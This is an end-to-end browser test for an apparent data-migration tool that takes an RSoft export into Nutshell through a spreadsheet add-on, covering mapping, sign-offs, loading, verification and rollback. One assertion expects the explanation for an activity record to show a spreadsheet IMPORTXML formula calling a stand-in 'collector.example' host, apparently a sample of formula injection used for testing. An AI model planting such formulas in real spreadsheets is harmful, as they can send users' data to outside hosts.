/** Proves the first journey in a real browser against the real service: from the printed link to the rollback. */
import path from "node:path";
import type { Browser, FrameLocator } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { prepareFirstMigration } from "../../server/cli/prepare-first-migration.ts";
import { shortSample } from "../journey/short-sample.ts";
import { resultOf, startWalk, type Walk } from "../journey/walk.ts";
import { launchBrowser } from "./find-browser.ts";
import { type OpenPage, openPage } from "./open-page.ts";

/** A folder for pictures of what the test sees on its way; none are made without it. */
const pictures = process.env["CROSSWALK_SCREENSHOTS"];

let browser: Browser;
let walk: Walk;

beforeAll(async () => {
  browser = await launchBrowser();
  walk = await startWalk();
});
afterAll(async () => {
  await browser?.close();
  await walk?.end();
});

/** Waits for something that must come true, however busy the machine is. */
const soon = <Value>(read: () => Value): ReturnType<typeof expect.poll<Value>> => expect.poll(read, { timeout: 180_000 });
const linkOf = (role: string): string => walk.service.links.find((link) => link.role === role)?.url ?? "";

type Person = OpenPage & {
  /** The add-on's sidebar, in its frame. */
  readonly panel: FrameLocator;
  show(title: string): Promise<void>;
  ended(sentence: string): Promise<void>;
  sign(gate: string): Promise<void>;
  /** Starts a step of those folded away under *Other steps*. */
  startOther(step: string): Promise<void>;
  picture(name: string): Promise<void>;
};

async function openAs(role: string): Promise<Person> {
  const open = await openPage(browser, linkOf(role), { width: 1440, height: 900 });
  const { page } = open;
  // The sidebar looks ever more seldom while nothing happens in it, so what others did may take a while to show.
  page.setDefaultTimeout(180_000);
  const panel = page.frameLocator("#sidebar iframe");
  return {
    ...open,
    panel,
    async show(title) {
      await page.getByRole("tab", { name: title, exact: true }).click();
      await page.locator(`#grid:not([aria-busy])[data-tab="${title}"]`).waitFor();
    },
    async ended(sentence) {
      // What is left for people to do may follow.
      await soon(() => panel.locator(".result h2").textContent()).toMatch(new RegExp(`^${sentence}`, "u"));
    },
    async sign(gate) {
      await panel.locator(`#sign-${gate}`).click();
      await panel.getByRole("dialog").waitFor();
      await panel.locator("#sign-off-confirm").click();
      await soon(() => panel.locator(".gate.open strong").allTextContents()).toContain(gate.charAt(0).toUpperCase() + gate.slice(1));
    },
    async startOther(step) {
      const button = panel.locator(`#start-${step}`);
      const shown = "The step is shown.";
      // The sidebar may be drawn anew at any moment, so a click may miss: it is tried again, and what the sidebar says is told.
      await soon(async () => {
        // Where the run before ended at once, they are still unfolded.
        if (!(await button.isVisible())) await panel.locator("#other-steps-summary").click({ timeout: 10_000 });
        return (await button.isVisible()) ? shown : await panel.locator("body").innerText();
      }).toBe(shown);
      await button.click();
    },
    async picture(name) {
      if (pictures === undefined) return;
      await panel.locator("header").first().scrollIntoViewIfNeeded();
      await page.screenshot({ path: path.join(pictures, `${name}.png`) });
    },
  };
}

/** Chooses a cell with the mouse and types into it. */
async function typeInto(person: Person, tab: string, row: number, column: string, text: string): Promise<void> {
  await person.ask("reveal", tab, row, column);
  const { x, y } = await person.middle(row, column);
  await person.page.mouse.click(x, y);
  await soon(() => person.ask("selection")).toMatchObject({ tab, row });
  await person.page.keyboard.type(text);
  await person.page.keyboard.press("Enter");
}

/** What every page shows when a test has failed. */
async function everyPicture(): Promise<void> {
  const pages = browser.contexts().flatMap((context) => context.pages());
  if (pictures !== undefined)
    for (const [at, page] of pages.entries()) await page.screenshot({ path: path.join(pictures, `failed-${at}.png`) });
}

/** What the load did, as somebody sees it in Nutshell's own pages. */
async function lookIntoNutshell(): Promise<void> {
  const { url, user, key } = (await walk.client.call("sandbox")).nutshell;
  const page = await browser.newPage({ viewport: { width: 1440, height: 860 }, httpCredentials: { username: user, password: key } });
  const picture = async (name: string): Promise<void> => {
    if (pictures !== undefined) await page.screenshot({ path: path.join(pictures, `inspector-${name}.png`) });
  };
  await page.goto(`${url}/admin/search?q=rsoft/contact/100000000000001000`);
  await page.getByRole("link", { name: "Ada Lovelace" }).first().click();
  await page.getByRole("heading", { name: "Ada Lovelace", level: 1 }).waitFor();
  expect(await page.locator("#timeline").textContent()).toContain("rsoft/ticket-message/M-1");
  await picture("person");
  await page.getByRole("link", { name: "Pipelines" }).click();
  await page.getByRole("link", { name: "Sales Pipeline" }).click();
  await page.getByRole("link", { name: "All", exact: true }).click();
  expect(await page.locator(".stage").first().textContent()).toMatch(/Prospecting \d+₹/);
  await picture("board");
  await page.getByRole("link", { name: "Switches" }).click();
  await page.getByRole("group", { name: "value.first-label" }).scrollIntoViewIfNeeded();
  await picture("switches");
  await page.close();
}

const rowWhere = async (person: Person, tab: string, wanted: Record<string, unknown>): Promise<number> => {
  const found = (await person.ask("rows", tab)).find((row) => Object.entries(wanted).every(([name, value]) => row[name] === value));
  if (found === undefined) throw new Error(`No row of ${tab} has ${JSON.stringify(wanted)}.`);
  return Number(found["row"]);
};

async function prepare(from: string): Promise<void> {
  const id = await walk.begin(from);
  for (const verb of ["extract", "propose"] as const) resultOf(await walk.run(id, verb));
}

test("operations and a manager move an RSoft export into Nutshell and take it back, from the workbook alone", async ({ onTestFailed }) => {
  onTestFailed(() => everyPicture());
  const opening = openAs("operations");
  // The pictures of the guides show the whole sample; the proof needs only a part of it.
  if (pictures === undefined) await prepare(await shortSample());
  else await prepareFirstMigration(walk.client, () => undefined);
  const ada = await opening;
  expect(ada.page.url()).toMatch(/\/workbook\/[\w-]+$/);
  await ada.ended("The map proposal is done");

  await ada.show("Inventory");
  expect((await ada.ask("rows", "Inventory")).find((row) => row["In the old system"] === "Contacts")).toMatchObject({
    "Move it?": true,
    "Becomes in Nutshell": "Person",
  });
  await ada.picture("inventory");
  await ada.show("Balance");
  expect(await ada.page.locator(".nothing-yet").textContent()).toContain("The balance appears with the first plan");
  await ada.panel.locator("#sandbox-fingerprint").click();
  const before = await ada.panel.locator("#fingerprint").getAttribute("title");

  await ada.show("Mapping");
  const waiting = Number(await ada.panel.locator("#problem-count").textContent());
  const row = await rowWhere(ada, "Mapping", { From: "Contacts", "Goes to": "Person: Job title" });
  await typeInto(ada, "Mapping", row, "Goes to", "Person: Shoe colour");
  await soon(() => ada.ask("cell", "Mapping", row, "Problem")).toContain("Shoe colour");
  await soon(() => ada.panel.locator("#problem-count").textContent()).toBe(String(waiting + 1));
  await ada.picture("problem");
  await ada.show("Start");
  await ada.panel.locator("button.problem", { hasText: "Shoe colour" }).click();
  await soon(() => ada.ask("selection")).toMatchObject({ tab: "Mapping", row });
  await typeInto(ada, "Mapping", row, "Goes to", "Person: Job title");
  await soon(() => ada.ask("cell", "Mapping", row, "Problem")).toBeFalsy();
  await soon(() => ada.panel.locator("#problem-count").textContent()).toBe(String(waiting));

  await ada.panel.locator("#next-step", { hasText: "Set up the sandbox Nutshell" }).click();
  await soon(() => ada.panel.locator("#problem-count").textContent()).toBe("0");
  await ada.show("Owners");
  const owner = await rowWhere(ada, "Owners", { "Still there?": "left", Decision: "Wait for the user" });
  await ada.ask("reveal", "Owners", owner, "Decision");
  const decision = await ada.middle(owner, "Decision");
  await ada.page.mouse.click(decision.right - 12, decision.y);
  await ada.page.getByText("No owner", { exact: true }).click();
  await soon(() => ada.ask("cell", "Owners", owner, "Decision")).toBe("No owner");
  await ada.picture("owners");

  await ada.panel.locator("#next-step", { hasText: "Plan" }).click();
  await ada.ended("The plan is done");
  await soon(() => ada.panel.locator(".result").textContent()).toContain("To create");
  await ada.show("Mapping");
  await typeInto(ada, "Mapping", 2, "Column", "x");
  await soon(() => ada.page.locator("#notices").textContent()).toContain("Crosswalk writes cell");
  await ada.page.locator("#notices button").first().click();
  expect(await ada.panel.locator("#sign-mapping").count()).toBe(0);
  await soon(() => ada.panel.locator("main").textContent()).toContain("A manager has to sign this off.");

  const charles = await openAs("manager");
  await charles.show("Sign-off");
  const gate = await rowWhere(charles, "Sign-off", { Gate: "mapping" });
  const tick = await charles.middle(gate, "I agree");
  await charles.page.mouse.click(tick.x, tick.y);
  await soon(() => ada.ask("cell", "Sign-off", gate, "I agree")).toBe(true);
  await charles.sign("mapping");

  await ada.panel.locator("#next-step", { hasText: "Load a sample" }).click();
  await ada.ended("The sample is done");
  await ada.show("Sample diff");
  const compared = await ada.ask("rows", "Sample diff");
  expect(compared[0]).toMatchObject({ Field: "Coverage of the sample" });
  expect(compared.map((one) => one["Finding"])).not.toContain("different");
  await ada.picture("sample-diff");
  await ada.show("Mapping");
  await ada.picture("workbook");
  await ada.panel.locator("#explain-key").fill("rsoft/activity/A-51");
  await ada.page.keyboard.press("Enter");
  await soon(() => ada.panel.locator(".explanation").textContent()).toContain('=IMPORTXML("https://collector.example/');
  await ada.panel.locator("#explanation-close").click();
  await charles.sign("sample");

  await ada.panel.locator("#next-step", { hasText: "Load everything" }).click();
  await ada.panel.locator("[role=progressbar][aria-valuenow]").waitFor();
  await ada.picture("progress");
  await ada.ended("The load is done");
  await ada.panel.locator("#next-step", { hasText: "Verify" }).click();
  await ada.ended("The verification is done");
  await ada.show("Balance");
  expect(new Set((await ada.ask("rows", "Balance")).map((one) => one["Closes?"]))).toEqual(new Set(["yes"]));
  await ada.picture("balance");
  await lookIntoNutshell();

  await ada.startOther("rollback-preview");
  await ada.ended("The rollback preview is done");
  await charles.sign("rollback");
  await ada.panel.locator("#next-step", { hasText: "Roll back" }).click();
  await ada.ended("The rollback is done");
  await ada.show("Rollback");
  await ada.picture("rollback");
  await ada.panel.locator("#sandbox-fingerprint").click();
  await soon(() => ada.panel.locator("#fingerprint").getAttribute("title")).toBe(before);
  expect([...ada.complaints, ...charles.complaints]).toEqual([]);
}, 1_200_000);
